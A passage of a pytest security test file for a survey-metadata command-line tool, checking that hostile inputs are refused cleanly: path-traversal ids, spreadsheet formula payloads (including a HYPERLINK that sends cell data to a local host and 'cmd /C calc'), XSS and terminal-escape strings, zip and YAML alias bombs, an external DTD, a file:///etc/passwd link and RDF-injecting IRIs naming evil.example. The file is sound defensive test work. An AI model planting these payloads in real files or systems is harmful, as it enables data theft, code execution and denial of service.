"""Issue 12: hostile inputs, one test per row of the attack table (test_rowNN_...).

Each test first builds the attack, then checks the promise through the real command: a
clear one-line error naming the file (and line where it applies), the documented exit code,
no traceback, the other inputs still processed, nothing written outside the output folder,
nothing fetched.
"""

from __future__ import annotations

import io
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from command import said as run
from http_server import LocalServer, QuietHandler, StartServer
from paths import RECORDS, REPO

GOOD = RECORDS / "gb-ips.ttl"
EXPENSIVE = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"


def clean(output: str) -> None:
    assert "Traceback" not in output and "Error:" not in output.replace("InputError", ""), output


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port on 127.0.0.1 that records whether anyone connected."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.3)
    try:
        yield server
    finally:
        server.close()


def never_contacted(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except TimeoutError:
        return True
    return False


# --- row 4: SERVICE found by the SPARQL parser, not by a pattern --------------------------


@pytest.mark.parametrize("query", [
    "SELECT * WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql#x> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ SERVICE <http://127.0.0.1:{port}/it's> {{ ?s ?p ?o }} }}",
    "PREFIX a-b: <http://127.0.0.1:{port}/> SELECT * WHERE {{ SERVICE a-b:sparql {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ SERVICE SILENT <http://127.0.0.1:{port}/> {{ ?s ?p ?o }} }} }}",
    "SELECT * WHERE {{ VALUES ?e {{ <http://127.0.0.1:{port}/> }} SERVICE ?e {{ ?s ?p ?o }} }}",
    "select * where {{ service <http://127.0.0.1:{port}/> {{ ?s ?p ?o }} }} # SERVICE",
], ids=["hash-in-iri", "quote-in-iri", "prefix-with-dash", "inside-filter", "variable", "lower-case"])
def test_row04_service_is_found_by_the_parser(capsys: pytest.CaptureFixture[str], listener: socket.socket,
                                              query: str) -> None:
    port = listener.getsockname()[1]
    code, output = run(capsys, "query", "--data", str(GOOD), "-e", query.format(port=port))
    assert code == 2 and "SERVICE" in output and "--allow-service" in output
    clean(output)
    assert never_contacted(listener)


def test_row04_service_in_strings_and_comments_is_no_call() -> None:
    from migrmeta.querying.execution import service_calls

    assert service_calls('SELECT * { ?s ?p "SERVICE <http://x>" } # SERVICE <http://y>\n') == []
    assert service_calls("SELECT * { SERVICE <http://a/#b> { ?s ?p ?o } }") == ["<http://a/#b>"]
    assert service_calls("SELECT * { ?s ?p <<( ?a ?b ?c )>> }") is None  # unreadable: fails closed


# --- row 9: embedded queries have a deadline and stop on Ctrl-C ----------------------------


def test_row09_an_expensive_query_stops_at_the_deadline(capsys: pytest.CaptureFixture[str]) -> None:
    code, output = run(capsys, "--limit", "query_seconds=1", "query", "--data", str(GOOD), "-e", EXPENSIVE)
    assert code == 1 and "query_seconds" in output and "stopped" in output
    # the hint names the option where it is given: before the command (`query --limit` is no option)
    assert "migrmeta --limit query_seconds=N query" in output, output
    clean(output)


def _children(pid: int) -> list[int]:
    path = Path(f"/proc/{pid}/task/{pid}/children")
    return [int(p) for p in path.read_text().split()] if path.exists() else []


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs /proc to see the query process")
def test_row09_ctrl_c_stops_the_query_and_exits_130() -> None:
    process = subprocess.Popen([sys.executable, "-m", "migrmeta", "query", "--data", str(GOOD),
                                "-e", EXPENSIVE], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               cwd=REPO)
    try:
        while not _children(process.pid):  # the query runs in a child process: wait for it
            assert process.poll() is None, process.communicate()
            time.sleep(0.05)
        worker = _children(process.pid)[0]
        process.send_signal(signal.SIGINT)
        _out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 130 and ("Interrupted" in err or "Aborted" in err) and "Traceback" not in err
    with pytest.raises(ProcessLookupError):
        os.kill(worker, 0)  # the query itself stopped too


def test_ctrl_c_just_after_the_query_process_is_forked_still_stops_it() -> None:
    """Ctrl-C between the fork and the parent's knowing the child's pid (a loaded CI machine,
    once) left the query running, and holding the terminal's pipes open, after the parent ended.
    Held until the child is known, the interrupt stops it like any other."""
    script = textwrap.dedent(f"""
        import os, signal
        import pyoxigraph as ox
        from multiprocessing import popen_fork
        from migrmeta.querying.execution import run

        launch = popen_fork.Popen._launch
        forked = []

        def interrupted(self, process_obj):
            launch(self, process_obj)  # in the parent: the child is forked, its pid not yet kept
            forked.append(self.pid)
            os.kill(os.getpid(), signal.SIGINT)

        popen_fork.Popen._launch = interrupted
        store = ox.Store()
        store.load(path={str(GOOD)!r}, format=ox.RdfFormat.TURTLE)
        try:
            run(store, {EXPENSIVE!r}, 60)
            print("never interrupted")
        except KeyboardInterrupt:
            try:
                os.kill(forked[0], 0)
                print("the query still runs")
            except ProcessLookupError:
                print("stopped")
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=False,
                          cwd=REPO)
    assert done.returncode == 0 and done.stdout.strip() == "stopped", (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr, done.stderr


# --- helpers for hostile records -------------------------------------------------------------


def variant(folder: Path, name: str, *replacements: tuple[str, str], base: Path = GOOD) -> Path:
    """A copy of a real record with some text replaced: the attack, in a file of its own."""
    text = base.read_text(encoding="utf-8")
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def with_id(folder: Path, name: str, identifier: str) -> Path:
    """gb-ips.ttl with another dct:identifier (its IRI unchanged)."""
    escaped = identifier.replace("\\", "\\\\").replace('"', '\\"')
    return variant(folder, name, ('dct:identifier "gb-ips"', f'dct:identifier "{escaped}"'))


def files_under(folder: Path) -> set[Path]:
    return set(folder.rglob("*"))


def only_inside(written: set[Path], out: Path) -> bool:
    return all(p == out or out in p.parents for p in written)


# --- rows 1 and 23, must-show 2: one rule for names on disk ------------------------------------

HOSTILE_IDS = {
    "parent": "../../x",
    "absolute": "/abs/x",
    "slash": "a/b",
    "backslash": "a\\b",
    "nul": "a\x00b",
    "windows-device": "con",
    "windows-device-suffix": "lpt1.txt",
    "300-characters": "a" * 300,
    "non-ascii": "enquête-2019",
    "dot-start": ".hidden",
}


@pytest.mark.parametrize("exporter", ["ddi", "schemaorg"])
@pytest.mark.parametrize("identifier", HOSTILE_IDS.values(), ids=HOSTILE_IDS.keys())
def test_row01_export_writes_nothing_outside_the_output(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                        exporter: str, identifier: str) -> None:
    inputs = tmp_path / "in" / "deep"
    inputs.mkdir(parents=True)
    bad = with_id(inputs, "bad.ttl", identifier)
    out = tmp_path / "out"
    before = files_under(tmp_path)
    code, output = run(capsys, "export", exporter, str(bad), str(RECORDS / "ph-sof.ttl"), "-o", str(out))
    assert code == 3 and str(bad) in output
    clean(output)
    written = files_under(tmp_path) - before
    assert len(written) > 1 and only_inside(written, out), written  # ph-sof still exported, inside -o
    assert len([line for line in output.splitlines() if str(bad) in line]) == 1


@pytest.mark.parametrize("identifier", HOSTILE_IDS.values(), ids=HOSTILE_IDS.keys())
def test_names_rule_refuses_each_hostile_id(identifier: str) -> None:
    from migrmeta.errors import InputError
    from migrmeta.io.names import file_name, id_problem

    assert id_problem(identifier) is not None
    with pytest.raises(InputError, match=r"rec\.ttl"):
        file_name(identifier, ".xml", source="rec.ttl")
    assert file_name("ph-sof-2019", ".xml", source="rec.ttl") == "ph-sof-2019.xml"
    assert id_problem("a" * 100) is None and id_problem("a" * 101) is not None


def test_names_rule_is_the_shapes_rule() -> None:
    from rdflib import Graph

    from migrmeta.io.names import MAX_LENGTH, RECORD_ID
    from migrmeta.namespaces import DCT, SH

    shapes = Graph().parse(REPO / "shapes" / "survey.ttl")
    shape = next(s for s in shapes.subjects(SH.path, DCT.identifier))
    assert str(shapes.value(shape, SH.pattern)) == RECORD_ID.pattern
    assert int(shapes.value(shape, SH.maxLength)) == MAX_LENGTH


def _site_inputs(folder: Path, bad: Path) -> Path:
    folder.mkdir(exist_ok=True)
    for name in ("agencies.ttl", "ph-sof.ttl"):
        (folder / name).write_bytes((RECORDS / name).read_bytes())
    assert bad.parent == folder
    return folder


def test_row23_a_300_character_identifier_is_refused_with_its_file(capsys: pytest.CaptureFixture[str],
                                                                   tmp_path: Path) -> None:
    long = "a" * 300
    folder = tmp_path / "in"
    folder.mkdir()
    bad = variant(folder, "long.ttl", ("survey:gb-ips", f"survey:{long}"), ('"gb-ips"', f'"{long}"'))
    _site_inputs(folder, bad)
    site = tmp_path / "site"
    code, output = run(capsys, "publish", "--no-cache", "-o", str(site), str(folder))
    assert code == 1 and f"{bad}:" in output and "at most 100" in output and "File name too long" not in output
    clean(output)
    assert not site.exists()
    code, output = run(capsys, "publish", "--no-cache", "--skip-invalid", "-o", str(site), str(folder))
    assert code == 0 and str(bad) in output
    assert (site / "en" / "surveys" / "ph-sof-2019.html").is_file()  # the other records are published
    assert all(len(p.name) < 120 for p in site.rglob("*"))


# --- row 2: ids in answers are checked (import sheet, import form) ----------------------------


def _sheet(path: Path, rows: list[dict[str, str]]) -> Path:
    import csv

    headers = sorted({k for row in rows for k in row}, key=lambda h: (h != "Survey id", h))
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, headers)
        writer.writeheader()
        writer.writerows(rows)
    return path


# A complete row (facts of records/eg-hims-2013.ttl, as in tests/formats/test_sheet.py)
SHEET_ROW = {
    "Survey id": "xx-sheet-2020",
    "1. Title": "Egypt Household International Migration Survey 2013",
    "2. Description": "Nationally representative household survey of CAPMAS, part of the MED-HIMS programme.",
    "2. Purpose": "Determinants and consequences of international migration.",
    "3. Countries": "Egypt",
    "4. Time frame: start": "2013",
    "4. Status": "Completed",
    "5. Conducting organisation": "CAPMAS",
    "6. Type of sample": "Probability sample",
    "7. Sampling unit": "Household",
    "8. Dedicated survey or module": "Dedicated (specialised) migration survey",
    "9. Populations covered": "Proxy respondents for migrants abroad; Return migrants at origin",
    "11. Identification of migrants: identification criterion": "Absent (former) household members abroad",
    "12. Remittance data": "yes",
    "13. Dissemination": "Reports",
    "Sources": "https://ec.europa.eu/eurostat/web/european-neighbourhood-policy/enp-south/med-hims",
}


@pytest.mark.parametrize("survey_id", ["<../../../x>", "../../../x", "<a b c>", "<https://exa mple.org/x>"])
def test_row02_row22_survey_ids_of_a_sheet_are_checked(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                       survey_id: str) -> None:
    (tmp_path / "in").mkdir()
    sheet = _sheet(tmp_path / "in" / "surveys.csv", [{**SHEET_ROW, "Survey id": survey_id, "1. Title": "Another survey"}, SHEET_ROW])
    out = tmp_path / "out"
    before = files_under(tmp_path)
    code, output = run(capsys, "import", "sheet", str(sheet), "-o", str(out), "--catalogue", str(RECORDS))
    assert code in (1, 3) and str(sheet) in output
    clean(output)
    written = files_under(tmp_path) - before
    assert only_inside(written, out), written
    assert (out / "xx-sheet-2020.ttl").is_file()  # the other row is still imported


# --- row 12: the base URL is checked by the one IRI rule ---------------------------------------


@pytest.mark.parametrize("base_url", ['https://example.org/a"b/', "https://example.org/a>b/", "https://exa mple.org/",
                                      "https://example.org/\n<x> <y> <z> ."])
def test_row12_a_base_url_with_a_quote_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                  base_url: str) -> None:
    site = tmp_path / "site"
    code, output = run(capsys, "publish", "--no-cache", "-o", str(site), "--base-url", base_url, str(RECORDS))
    assert code == 2 and "base URL" in output
    clean(output)
    assert not site.exists()


@pytest.mark.parametrize("base_url", ["https://example.org/mm/#frag", "https://example.org/mm/?x=1"])
def test_row12_a_base_url_with_a_query_or_fragment_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                              base_url: str) -> None:
    """Paths are appended to the base URL: `.../mm/#frag/catalog.jsonld` in VoID, the sitemap
    and the feeds (the harvester review)."""
    site = tmp_path / "site"
    code, output = run(capsys, "publish", "--no-cache", "-o", str(site), "--base-url", base_url, str(RECORDS))
    assert code == 2 and "has a query or a fragment" in output, output
    clean(output)
    assert not site.exists()


# --- rows 13 and 18: outputs safe for the programs that open them ------------------------------

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def with_title(folder: Path, name: str, title: str) -> Path:
    escaped = title.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    escaped = escaped.replace("\n", "\\n")
    return variant(folder, name, ('dct:title "International Passenger Survey"@en', f'dct:title "{escaped}"@en'))


@pytest.mark.parametrize("formula", FORMULAS)
def test_row18_titles_that_look_like_formulas_are_written_as_text(capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path, formula: str) -> None:
    import csv

    from openpyxl import load_workbook

    record = with_title(tmp_path, "gb-ips.ttl", formula)
    common = ["--example", str(record), "--example-survey", "gb-ips", "--catalogue", str(RECORDS)]
    code, output = run(capsys, "template", "--format", "xlsx", "-o", str(tmp_path / "t.xlsx"), *common)
    assert code == 0, output
    sheet = load_workbook(tmp_path / "t.xlsx")["Surveys"]
    title = next(c for c in sheet[2] if c.value == formula)
    assert title.data_type == "s"  # a string cell, never a formula
    code, output = run(capsys, "template", "--format", "csv", "-o", str(tmp_path / "t.csv"), *common)
    assert code == 0, output
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert "'" + formula in rows[1] and formula not in rows[1]
    code, output = run(capsys, "report", "inventory", "--format", "csv", str(record))
    rows = list(csv.reader(io.StringIO(output, newline="")))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'") for c in cells) and not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells)


def test_row18_numbers_are_not_formulas() -> None:
    from migrmeta.io.cells import csv_cell

    assert csv_cell("-5") == "-5" and csv_cell("+3.25") == "+3.25" and csv_cell("-") == "'-"
    assert csv_cell("=1") == "'=1" and csv_cell("plain") == "plain" and csv_cell(12) == 12


def test_row13_markdown_inventory_escapes_html_and_markdown(capsys: pytest.CaptureFixture[str],
                                                           tmp_path: Path) -> None:
    title = '<img src=x onerror=alert(1)> [click](javascript:alert(1)) | *bold* `code`\n# heading'
    record = with_title(tmp_path, "gb-ips.ttl", title)
    code, output = run(capsys, "report", "inventory", "--format", "markdown", str(record))
    assert code == 0, output
    line = next(line for line in output.splitlines() if "img" in line)
    assert "<img" not in line and "&lt;img" in line and "\\[click\\]" in line and "\\*bold\\*" in line
    assert "\\|" in line and "\\`code\\`" in line
    assert line.count(" | ") + line.count("| ") >= 1 and "\n" not in line
    cells = [c for c in line.replace("\\|", "").split("|")]
    assert len(cells) == len(next(line for line in output.splitlines() if line.startswith("| 1.")).split("|"))


# --- row 21: reports well-formed, terminals safe -----------------------------------------------

CONTROLS = "a\x01b\x08c\x0bd\x1b]0;owned\x07e\x1b[2Jf\x9bg\x7fh"


def test_row21_junit_report_is_well_formed_xml(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from xml.etree import ElementTree

    record = variant(tmp_path, "ctl.ttl", ('dct:identifier "gb-ips"', f'dct:identifier "{CONTROLS}"'))
    code, output = run(capsys, "validate", "--no-cache", "--format", "junit", str(record))
    assert code == 1
    suite = ElementTree.fromstring(output[output.index("<?xml"):].encode("utf-8"))
    failure = suite.find(".//failure")
    assert failure is not None and "identifier" in (failure.text or "")


def test_row21_text_report_neutralises_terminal_sequences(capsys: pytest.CaptureFixture[str],
                                                          tmp_path: Path) -> None:
    record = with_title(tmp_path, "ctl\x1b]0;owned\x07.ttl", "Intl\x1b]0;owned\x07")  # a file name too
    record = variant(tmp_path, record.name, ("mm:sampleType st:probability.time-location",
                                             f'mm:sampleType "{CONTROLS}"'), base=record)
    code, output = run(capsys, "validate", "--no-cache", str(record))
    assert code == 1 and "sample type" in output
    assert not any(c in output for c in "\x01\x08\x0b\x1b\x07\x9b\x7f") and "\\x1b]0;owned" in output
    clean(output)


def test_row21_error_messages_neutralise_terminal_sequences(capsys: pytest.CaptureFixture[str],
                                                            tmp_path: Path) -> None:
    bad = tmp_path / "bad.ttl"
    bad.write_text('<https://example.org/a> <https://example.org/b> "x\x1b]0;owned\x07" ; oops .\n',
                   encoding="utf-8")
    code, output = run(capsys, "validate", "--no-cache", str(bad))
    assert code == 3 and str(bad) in output and "\x1b" not in output and "\x07" not in output


# --- rows 15 and 22: XLSX zip bombs and broken parts ---------------------------------------------

SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"


def _cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def xlsx_with_sheet(path: Path, sheet_xml: bytes) -> Path:
    """A real workbook (openpyxl's) whose first sheet's XML is replaced by `sheet_xml`."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Surveys"
    scratch = path.with_suffix(".base.xlsx")
    book.save(scratch)
    with zipfile.ZipFile(scratch) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = sheet_xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info)
            target.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    scratch.unlink()
    return path


def _rows(count: int, columns: int = 1) -> bytes:
    rows = [b'<row r="1">' + _cell("A1", "Survey id") + b"</row>"]
    for n in range(2, count + 1):
        cells = b"".join(_cell(f"{_letters(c)}{n}", f"x{c}") for c in range(1, columns + 1))
        rows.append(f'<row r="{n}">'.encode() + cells + b"</row>")
    return SHEET_HEAD + b"".join(rows) + SHEET_TAIL


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


def _big_cell() -> bytes:  # 60 MB of one cell, a few tens of kB packed
    return SHEET_HEAD + b'<row r="1">' + _cell("A1", "A" * 60_000_000) + b"</row>" + SHEET_TAIL


XLSX_ATTACKS = {
    "one-huge-cell": (_big_cell, "sheet_mb"),
    "too-many-rows": (lambda: _rows(10_050), "sheet_rows"),
    "too-many-columns": (lambda: _rows(3, 250), "sheet_columns"),
    "truncated-xml": (lambda: _rows(50, 3)[:700], "not a readable XLSX"),
    "lying-dimension": (lambda: _rows(10_050).replace(b"<sheetData>", b'<dimension ref="A1:B2"/><sheetData>'),
                        "sheet_rows"),
}


@pytest.mark.parametrize("attack", XLSX_ATTACKS, ids=XLSX_ATTACKS.keys())
def test_row15_row22_hostile_workbooks_are_refused_before_they_are_read(capsys: pytest.CaptureFixture[str],
                                                                         tmp_path: Path, attack: str) -> None:
    build, said = XLSX_ATTACKS[attack]
    book = xlsx_with_sheet(tmp_path / "in.xlsx", build())
    assert book.stat().st_size < 2_000_000
    out = tmp_path / "out"
    code, output = run(capsys, "import", "sheet", str(book), "-o", str(out), "--catalogue", str(RECORDS))
    assert code == 3 and f"{book}" in output and said in output
    clean(output)
    assert sum(said in line and str(book) in line for line in output.splitlines()) == 1  # one line says it
    assert not out.exists()


# --- row 16: hostile YAML forms --------------------------------------------------------------------


def _alias_bomb() -> str:
    text = 'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    previous = "a"
    for name in "bcdefghi":
        text += f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]\n"
        previous = name
    return text


YAML_ATTACKS = {
    "alias-bomb": (_alias_bomb(), "nested aliases are refused", 3),
    "many-aliases": ("x: &x a\nlist: [" + ", ".join(["*x"] * 150) + "]\n", "yaml_aliases", 2),
    "alias-cycle": ("title: &a [*a]\n", "nested aliases are refused", 1),
    "deep-yaml": ("title: " + "[" * 5000 + "]" * 5000 + "\n", "limit `depth`", 1),
    "complex-key": ("? [a, b]\n: c\n", "a key must be a plain word", 1),
}


@pytest.mark.parametrize("attack", YAML_ATTACKS, ids=YAML_ATTACKS.keys())
def test_row16_hostile_yaml_forms_are_refused_with_their_line(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                              attack: str) -> None:
    text, said, line = YAML_ATTACKS[attack]
    form = tmp_path / "form.yaml"
    form.write_text("id: xx-form-2020\n" + text, encoding="utf-8")
    out = tmp_path / "out.ttl"
    code, output = run(capsys, "import", "form", str(form), "-o", str(out), "--catalogue", str(RECORDS))
    assert code == 3 and f"{form}:{line + 1}:" in output and said in output
    clean(output)
    assert not out.exists()


def test_row16_deep_json_forms_are_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    form = tmp_path / "form.json"
    form.write_text('{"id": "xx-form-2020", "title": ' + "[" * 5000 + "]" * 5000 + "}", encoding="utf-8")
    code, output = run(capsys, "import", "form", str(form), "-o", str(tmp_path / "out.ttl"), "--catalogue",
                       str(RECORDS))
    assert code == 3 and str(form) in output and "limit `depth`" in output
    clean(output)


@pytest.mark.parametrize("identifier", ["<a b c>", "<../../x>", "../../x", "/abs/x", "a" * 300])
def test_row22_hostile_form_ids_are_problems_not_tracebacks(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                            identifier: str) -> None:
    form = tmp_path / "form.yaml"
    form.write_text(f'id: "{identifier}"\ntitle: A survey\n', encoding="utf-8")
    out = tmp_path / "out"
    before = files_under(tmp_path)
    code, output = run(capsys, "import", "form", str(form), "-o", str(out / "x.ttl"), "--catalogue", str(RECORDS))
    assert code in (1, 3) and str(form) in output
    clean(output)
    assert only_inside(files_under(tmp_path) - before, out)


# --- row 19: reports grow with the number of problems, not its square ------------------------------


def test_row19_a_sheet_of_one_row_repeated_reports_each_row_once(capsys: pytest.CaptureFixture[str],
                                                                 tmp_path: Path) -> None:
    rows = 12
    sheet = _sheet(tmp_path / "same.csv", [SHEET_ROW] * rows)
    code, output = run(capsys, "import", "sheet", str(sheet), "-o", str(tmp_path / "out"), "--catalogue",
                       str(RECORDS))
    assert code == 1
    clean(output)
    same = [line for line in output.splitlines() if "same title" in line or "also" in line]
    assert len(same) <= 2 * rows, len(same)  # each row once or twice (IRI, title), never once per pair
    assert "and 8 more" in output  # 11 other rows: three named, the rest counted


def test_row19_one_survey_in_many_files_is_reported_once_per_file(capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path) -> None:
    copies = 12
    for n in range(copies):
        (tmp_path / f"copy{n:02}.ttl").write_bytes(GOOD.read_bytes())
    (tmp_path / "agencies.ttl").write_bytes((RECORDS / "agencies.ttl").read_bytes())
    code, output = run(capsys, "validate", "--no-cache", "--format", "json", str(tmp_path))
    assert code == 1
    import json

    findings = [f for r in json.loads(output)["records"] for f in r["findings"]
                if f["component"] in ("duplicate_iri", "duplicate_identifier", "duplicate_key")]
    per_kind = {kind: sum(f["component"] == kind for f in findings) for kind in ("duplicate_iri", "duplicate_key")}
    assert per_kind["duplicate_iri"] == copies and per_kind["duplicate_key"] <= copies
    assert any("and 8 more" in f["message"] for f in findings)


# --- row 14: DDI text with undefined entities (an external DTD) ----------------------------------

DDI = REPO / "tests" / "data" / "ddi" / "ddi26-made.xml"


def test_row14_undefined_entities_are_kept_and_reported(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                        listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    text = DDI.read_text(encoding="utf-8").replace(
        "<!-- Made for", f'<!DOCTYPE codeBook SYSTEM "http://127.0.0.1:{port}/codebook.dtd">\n<!-- Made for', 1)
    text = text.replace("A household survey of returned migrants", "A household survey &eacute; of returned migrants")
    study = tmp_path / "study.xml"
    study.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    code, output = run(capsys, "import", "ddi", str(study), "-o", str(out))
    assert code in (0, 1), output
    clean(output)
    assert "codeBook/stdyDscr/stdyInfo/abstract" in output and "&eacute;" in output  # in the loss report
    from migrmeta.load import read_input
    from migrmeta.namespaces import DCT

    graph = read_input(str(next(out.glob("*.ttl")))).graph
    assert any("&eacute; of returned" in str(o) for o in graph.objects(None, DCT.description))  # nothing lost
    assert never_contacted(listener)  # the DTD is never fetched


# --- rows 10, 11 and 17: hostile servers on 127.0.0.1 --------------------------------------------

DCAT = REPO / "tests" / "data" / "dcat"


class HostileServer(QuietHandler):
    """/trickle: a byte every 0.2 s for 30 s; /huge: 2 GB, streamed lazily, never built in memory;
    /page1: a DCAT page whose hydra:next points to `next` (a file:// URL, a missing page)."""

    next_page = "/missing"

    def _start(self, content_type: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.end_headers()

    def _serve(self) -> None:
        content_type = "application/sparql-results+json" if "query" in self.path else "text/turtle"
        if self.path.startswith("/trickle"):
            self._start(content_type)
            for _ in range(150):
                self.wfile.write(b" ")
                self.wfile.flush()
                time.sleep(0.2)
            return
        if self.path.startswith("/huge"):
            self._start(content_type)
            chunk = b"#" * (1 << 20)
            for _ in range(2048):  # 2 GB, a megabyte at a time, until the client hangs up
                self.wfile.write(chunk)
            return
        if self.path == "/page1":
            page = (DCAT / "hydra-page1.ttl").read_text(encoding="utf-8")
            page = page.replace("hydra-page2.jsonld", type(self).next_page)
            return self.reply(page.encode("utf-8"), "text/turtle")
        self.send_error(404)

    def do_GET(self) -> None:
        self._serve()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._serve()

    do_PUT = do_POST


@pytest.fixture
def hostile(http_server: StartServer) -> LocalServer:
    return http_server(HostileServer)


def _http_attack(client: str, kind: str, url: str, tmp_path: Path) -> list[str]:
    return {
        "import-dcat": ["import", "dcat", f"{url}/{kind}", "-o", str(tmp_path / "out")],
        "query-endpoint": ["query", "--endpoint", f"{url}/{kind}/query", "-e", "SELECT * WHERE { ?s ?p ?o }"],
        "push": ["push", str(GOOD), "--endpoint", f"{url}/{kind}/query", "--store", f"{url}/{kind}/store",
                 "--no-reference"],
    }[client]


@pytest.mark.parametrize("client", ["import-dcat", "query-endpoint", "push"])
def test_row10_a_trickling_server_meets_the_total_deadline(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                          hostile: LocalServer, client: str) -> None:
    argv = _http_attack(client, "trickle", hostile.url, tmp_path)
    code, output = run(capsys, "--limit", "http_seconds=2", *argv)
    assert code in (1, 3) and "http_seconds" in output and "127.0.0.1" in output
    clean(output)


@pytest.mark.parametrize("client", ["import-dcat", "query-endpoint", "push"])
def test_row17_a_2_gb_answer_is_cut_at_the_size_limit(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                      hostile: LocalServer, client: str) -> None:
    argv = _http_attack(client, "huge", hostile.url, tmp_path)
    code, output = run(capsys, "--limit", "http_mb=5", *argv)
    assert code in (1, 3) and "http_mb" in output and "127.0.0.1" in output
    clean(output)


@pytest.mark.parametrize("next_page", ["file:///etc/passwd", "/missing", "http://example.invalid/page2"])
def test_row11_pages_already_read_are_kept_when_a_later_one_fails(capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path, hostile: LocalServer,
                                                                  next_page: str) -> None:
    HostileServer.next_page = next_page if "://" in next_page else hostile.url + next_page
    out = tmp_path / "out"
    code, output = run(capsys, "import", "dcat", f"{hostile.url}/page1", "-o", str(out))
    clean(output)
    assert list(out.glob("*.ttl")), output  # the first page's datasets are written
    assert HostileServer.next_page in output
    if next_page.startswith("/"):  # a page of the same site that fails: an error, the rest kept
        assert code in (1, 3)
    else:  # another site or a file: never followed, said as a warning
        assert code == 0 and "not read" in output
    assert hostile.hits.count("/page1") == 1 and "/etc/passwd" not in "".join(hostile.hits)


# --- rows 3, 5, 6, 7 and 8: the one reader refuses at the door -------------------------------------

SURVEY_BASE = "https://w3id.org/migrmeta/survey/"


def jsonld_record(folder: Path, name: str, subject: str, **extra: object) -> Path:
    import json

    document = {"@id": subject, "@type": "https://w3id.org/migrmeta/ns#Survey",
                "http://purl.org/dc/terms/identifier": "xx-jsonld", **extra}
    path = folder / name
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


INJECTIONS = {
    "angle": SURVEY_BASE + "x> <http://evil.example/p> <http://evil.example/o",
    "quote": SURVEY_BASE + 'x" ; <http://evil.example/p> "o',
    "newline": SURVEY_BASE + "x>\n<http://evil.example/s> <http://evil.example/p> <http://evil.example/o> .\n<y",
    "space": SURVEY_BASE + "x y",
}


def _commands(bad: Path, tmp_path: Path) -> dict[str, list[str]]:
    return {
        "validate": ["validate", "--no-cache", str(bad), str(GOOD)],
        "publish": ["publish", "--no-cache", "-o", str(tmp_path / "site"), str(bad), str(GOOD)],
        "push": ["push", "--dry-run", "--no-reference", str(bad), str(GOOD)],
        "query": ["query", "--no-reference", "--data", str(bad), "--data", str(GOOD), "--format", "tsv",
                  "-e", "SELECT DISTINCT ?s WHERE { ?s a <https://w3id.org/migrmeta/ns#Survey> }"],
        "merge": ["merge", str(bad), str(GOOD), "-o", str(tmp_path / "merged.trig"), "--force"],  # run twice
    }


@pytest.mark.parametrize("command", ["validate", "publish", "push", "query"])
@pytest.mark.parametrize("where", ["subject", "object", "type"])
@pytest.mark.parametrize("attack", INJECTIONS, ids=INJECTIONS.keys())
def test_row03_iris_that_would_inject_rdf_are_refused_at_the_door(capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path, command: str, where: str,
